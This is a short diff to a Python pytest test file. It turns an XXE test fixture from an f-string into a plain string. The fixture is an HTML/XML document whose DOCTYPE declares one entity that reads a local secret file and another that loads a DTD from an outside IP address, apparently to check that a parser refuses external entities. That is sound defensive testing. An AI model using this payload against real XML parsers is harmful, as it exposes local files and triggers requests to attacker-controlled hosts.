@@ -14,8 +14,8 @@ import pytest
 PROJECT = Path(__file__).resolve().parents[1]
 SECRET = "TOP-SECRET-8c1f0e"
 
-XXE = f"""<?xml version="1.0"?>
-<!DOCTYPE html [<!ENTITY leak SYSTEM "file://{{secret}}"><!ENTITY remote SYSTEM "http://198.51.100.7/x.dtd">]>
+XXE = """<?xml version="1.0"?>
+<!DOCTYPE html [<!ENTITY leak SYSTEM "file://{secret}"><!ENTITY remote SYSTEM "http://198.51.100.7/x.dtd">]>
 <html><head><title>Entity test</title><meta property="article:published_time" content="2026-11-24T10:00:00Z">
 </head><body><article><h1>Entity test</h1><p>Before the entity &leak; and the remote one &remote; after it.</p>
 <p>The council in Port Ellery met on Monday to discuss the harbour plan and the bridge budget again.</p>
